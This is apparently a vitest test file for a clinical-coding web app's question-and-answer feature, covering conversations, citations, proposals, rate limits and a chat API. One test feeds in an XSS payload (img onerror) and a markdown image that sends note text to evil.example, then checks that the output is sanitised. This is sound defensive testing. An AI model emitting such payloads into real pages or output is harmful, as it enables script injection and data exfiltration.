import { beforeEach, describe, expect, it } from 'vitest'
import { type ScriptedPiece, scriptedModel } from '#src/flow/ask/scripted-model.builder.ts'
import { ModelFault, type ModelRequest } from '#src/ports/language-model.ts'
import type { Ports } from '#src/ports/ports.ts'
import { fewCodes } from '#src/testing/few-codes.ts'
import { note, part, testHouse } from '#src/testing/house.ts'

let house: Awaited<ReturnType<typeof testHouse>>
let http: Awaited<ReturnType<(typeof house)['browser']>>
let id: string
beforeEach(async () => {
  house = await testHouse()
  house.ports.codes = fewCodes()
  id = await house.read(note)
  await house.workAll()
  http = await house.browser()
})

const withModel = async (script: ScriptedPiece[] | ((request: ModelRequest) => Promise<ScriptedPiece[]>)) => {
  const ports: Ports = house.ports
  const { prompts } = house.ports
  const digest = { id: 'digest' as const, version: 1, text: 'SYNTHETIC digest' }
  ports.prompts = { named: (name) => (name === 'digest' ? digest : prompts.named(name)) }
  ports.model = scriptedModel(script)
  http = await house.browser()
}
const html = async (response: Response | Promise<Response>) => (await response).text()
/** Asks as a form does; answers the page's path. */
const asked = async (question: string, more: Record<string, string | string[]> = { document: id }) => {
  const response = await http.post('/conversations', { question, ...more })
  expect(response.status).toBe(303)
  return response.headers.get('location') ?? ''
}
/** Answers that anything at all stands there, without printing a page when it does not. */
const has = (page: string, words: string | RegExp) =>
  typeof words === 'string' ? page.includes(words) : words.test(page)
const turnOf = (page: string) => /id="turn-(\w+)"/.exec(page)?.[1] ?? ''

describe('a conversation on its page', () => {
  it('shows the question at once, polls while it waits, and stops by itself with quotes that lead to their place', async () => {
    const path = await asked('Is the hypertension at goal?')
    const waiting = await html(http.get(path))
    expect(has(waiting, 'Is the hypertension at goal?')).toBe(true)
    expect(has(waiting, 'no model is set up')).toBe(true)
    const turn = turnOf(waiting)
    expect(has(waiting, `hx-get="${path}/messages/${turn}"`)).toBe(true)
    expect(has(waiting, 'every 500ms')).toBe(true)
    await house.workAll()
    const done = await http.get(`${path}/messages/${turn}`, part)
    expect(done.headers.get('hx-retarget')).toBe(`#turn-${turn}`)
    expect(done.headers.get('hx-reswap')).toBe('outerHTML')
    const answer = await done.text()
    expect(has(answer, 'hx-trigger')).toBe(false)
    const [, start, end] = new RegExp(`/documents/${id}\\?page=1#at-(\\d+)-(\\d+)`).exec(answer) ?? []
    expect(note.slice(Number(start), Number(end))).toContain('Essential hypertension, at goal')
  })

  it('is listed, goes on, and is deleted', async () => {
    const path = await asked('Is the hypertension at goal?')
    await house.workAll()
    expect((await http.post(path, { question: 'And the diabetes?', key: 'k2' })).status).toBe(303)
    await house.workAll()
    const list = await html(http.get('/conversations'))
    expect(has(list, '2 questions')).toBe(true)
    expect(has(list, path)).toBe(true)
    expect((await http.post(`${path}/deletion`)).headers.get('location')).toBe('/conversations')
    expect((await http.get(path)).status).toBe(404)
    expect(has(await html(http.get('/conversations')), 'No conversations yet')).toBe(true)
  })

  it('keeps what was typed when a question comes too early or is too long', async () => {
    const path = await asked('Is there gout?')
    const early = await http.post(path, { question: 'Something else?' })
    expect(early.status).toBe(409)
    const page = await early.text()
    expect(has(page, 'still being answered')).toBe(true)
    expect(has(page, 'Something else?</textarea>')).toBe(true)
    const long = await http.post('/conversations', { question: 'x'.repeat(2001), document: id })
    expect(long.status).toBe(413)
    expect(has(await long.text(), '2,000 characters or fewer')).toBe(true)
  })

  it('is one though its form was sent twice', async () => {
    const one = await asked('Is there gout?', { document: id, key: 'same' })
    const two = await asked('Is there gout?', { document: id, key: 'same' })
    expect(one).toBe(two)
  })

  it('is about an encounter, chosen documents, or the worklist as it is filtered', async () => {
    const second = await house.read(note.replace('at goal on lisinopril', 'not at goal'))
    const about = await html(http.get(`/conversations/new?document=${id}&document=${second}`))
    expect(has(about, '2 chosen documents')).toBe(true)
    const path = await asked('Is the hypertension at goal?', { document: [id, second] })
    await house.workAll()
    expect(has(await html(http.get(path)), 'Looked through 2 documents.')).toBe(true)
    const filtered = await html(http.get('/conversations/new?status=signed&document='))
    expect(has(filtered, 'The worklist as it is filtered')).toBe(true)
    const list = await asked('Is the hypertension at goal?', { all: '1', status: 'signed' })
    await house.workAll()
    const none = await html(http.get(list))
    expect(has(none, 'No sentence with these words was found.')).toBe(true)
    expect(has(none, 'Looked through 0 documents.')).toBe(true)
  })

  it('offers proposals as buttons, does them once, and offers none of a signed encounter', async () => {
    const path = await asked('Is the hypertension at goal?')
    await house.workAll()
    const page = await html(http.get(path))
    const action = new RegExp(`action="(${path}/messages/\\w+/proposals/1)"`).exec(page)?.[1] ?? ''
    expect(has(page, 'Accept the code')).toBe(true)
    for (const _ of [1, 2]) {
      const taken = await http.post(action, {}, part)
      expect(taken.status).toBe(200)
      expect(has(await taken.text(), 'Accepted')).toBe(true)
    }
    const { encounter, cards } = await house.see(id)
    expect(cards.find(({ code }) => code === 'I10')?.state).toBe('accepted')
    await house.documents.commit({
      writes: [
        { put: 'encounter', value: { ...encounter, version: encounter.version + 1, state: 'signed' } },
      ],
      audit: [
        {
          subject: encounter.id,
          at: encounter.updatedAt,
          actor: 'a',
          role: 'coder',
          action: 'x',
          detail: {},
        },
      ],
    })
    expect(has(await html(http.get(path)), /Keep the note|Add the code|Accept the code/)).toBe(false)
  })

  it('shows what a model writes as text and nothing else', async () => {
    const evil =
      'Hypertension <img src=x onerror=alert(1)> ![x](https://evil.example/?d=hypertension) [click](https://evil.example)'
    await withModel(async (request) => {
      request.onText?.(evil)
      await new Promise((resolve) => setTimeout(resolve, 60))
      draft = await html(http.get(`${path}/messages/${turnOf(await html(http.get(path)))}`, part))
      return [
        [evil, 'Essential hypertension'],
        [' **Hypertension** is at goal.', 'Essential hypertension'],
      ]
    })
    let draft = ''
    const path = await asked('Is the hypertension at goal?')
    await house.workAll()
    expect(has(draft, '&lt;img src=x')).toBe(true)
    const page = await html(http.get(path))
    for (const shown of [draft, page]) {
      expect(has(shown, /<img|href="https:\/\/evil|<a [^>]*evil/)).toBe(false)
    }
    expect(has(page, 'Hypertension is at goal.')).toBe(true)
    expect(has(page, '1 sentence was taken out')).toBe(true)
    expect(has(page, /Claude \(Anthropic\), claude-scripted · \$0\.\d+/)).toBe(true)
  })

  it('says in words that the model is waited for, and lets go of it on a press', async () => {
    await withModel(async () => {
      throw new ModelFault('overloaded', 'anthropic overloaded', { retryAfterSeconds: 40 })
    })
    const path = await asked('Is the hypertension at goal?')
    const job = await house.ports.jobs.lease(60)
    const { work } = await import('#src/jobs/work.ts')
    if (job) await work(house.ports, job.job)
    const waiting = await html(http.get(path))
    expect(has(waiting, 'The vendor has more to do than it can.')).toBe(true)
    expect(has(waiting, 'Found in the documents: 1')).toBe(true)
    const turn = turnOf(waiting)
    await http.post(`${path}/interruption`, { how: 'quotes', message: turn })
    await house.workAll()
    expect(has(await html(http.get(path)), 'Quotes, without the model.')).toBe(true)
  })

  it('is stopped without script too', async () => {
    await withModel([['never']])
    const path = await asked('Is the hypertension at goal?')
    const turn = turnOf(await html(http.get(path)))
    expect((await http.post(`${path}/interruption`, { how: 'stop', message: turn })).status).toBe(303)
    await house.workAll()
    expect(has(await html(http.get(path)), 'Stopped.')).toBe(true)
  })

  it('is reached from the document with a key and from the worklist', async () => {
    const review = await html(http.get(`/documents/${id}`))
    expect(has(review, `href="/conversations/new?document=${id}"`)).toBe(true)
    expect(review.match(/data-hotkey="q"/g)).toHaveLength(1)
    expect(has(await html(http.get('/')), 'formaction="/conversations/new"')).toBe(true)
  })
})

interface Chat {
  response: string
  session_id: string
  citations: { documentId: string; quote: string; start: number; end: number; page: number }[]
  not_found: boolean
}

describe('POST /api/v1/chat', () => {
  const chat = async (body: object) => {
    const answering = http.json('POST', '/api/v1/chat', body)
    await new Promise((resolve) => setTimeout(resolve, 20))
    await house.workAll()
    return answering
  }

  it('waits for the answer and cites it; the session remembers', async () => {
    const response = await chat({ message: 'Is the hypertension at goal?', document_ids: [id] })
    expect(response.status).toBe(200)
    const { session_id, citations, not_found } = (await response.json()) as Chat
    expect(not_found).toBe(false)
    expect(note.slice(citations[0]?.start, citations[0]?.end)).toBe(citations[0]?.quote)
    const next = (await (await chat({ message: 'Is there glaucoma?', session_id })).json()) as Chat
    expect(next).toMatchObject({
      session_id,
      not_found: true,
      response: expect.stringContaining('No sentence with these words was found.'),
    })
    const whole = (await (await http.json('GET', `/api/v1/conversations/${session_id}`)).json()) as {
      messages: object[]
    }
    expect(whole.messages).toHaveLength(4)
    expect((await http.json('DELETE', `/api/v1/conversations/${session_id}`)).status).toBe(204)
    expect((await http.json('GET', `/api/v1/conversations/${session_id}`)).status).toBe(404)
  })

  it('answers 202 with the place when it takes longer', async () => {
    const response = await http.json('POST', '/api/v1/chat', {
      message: 'Is there gout?',
      document_ids: [id],
      wait_seconds: 0.1,
    })
    expect(response.status).toBe(202)
    const { session_id } = (await response.json()) as Chat
    expect(response.headers.get('location')).toBe(`/api/v1/conversations/${session_id}`)
    const list = (await (await http.json('GET', '/api/v1/conversations')).json()) as {
      conversations: { id: string; pending: boolean }[]
    }
    expect(list.conversations).toMatchObject([{ id: session_id, pending: true }])
  })

  it('lets five wait at once and sends the sixth away for a moment', async () => {
    const ask = (i: number) =>
      http.json('POST', '/api/v1/chat', { message: `Gout ${i}?`, document_ids: [id], wait_seconds: 1 })
    const five = [1, 2, 3, 4, 5].map(ask)
    const sixth = await ask(6)
    expect(sixth.status).toBe(429)
    expect(Number(sixth.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(sixth.headers.get('content-type')).toContain('application/problem+json')
    await house.workAll()
    expect((await Promise.all(five)).map(({ status }) => status)).toEqual([200, 200, 200, 200, 200])
    expect((await chat({ message: 'Gout 7?', document_ids: [id] })).status).toBe(200)
  })

  it.each([
    [{ message: '' }, 400, 'question-missing'],
    [{}, 400, 'bad-request'],
    [{ message: 'x'.repeat(2001) }, 413, 'question-too-long'],
    [{ message: 'x', session_id: 'nothing' }, 404, 'conversation-gone'],
    [{ message: 'x', document_ids: ['nothing'] }, 404, 'document-gone'],
  ] as const)('%# is refused in words', async (body, status, code) => {
    const response = await http.json('POST', '/api/v1/chat', body)
    expect(response.status).toBe(status)
    expect(await response.json()).toMatchObject({ code })
  })

  it('stands in the OpenAPI document', async () => {
    const { paths } = (await (await http.get('/api/openapi.json')).json()) as {
      paths: Record<string, object>
    }
    expect(Object.keys(paths['/api/v1/chat'] ?? {})).toEqual(['post'])
    expect(Object.keys(paths['/api/v1/conversations/{id}'] ?? {}).sort()).toEqual(['delete', 'get'])
  })
})
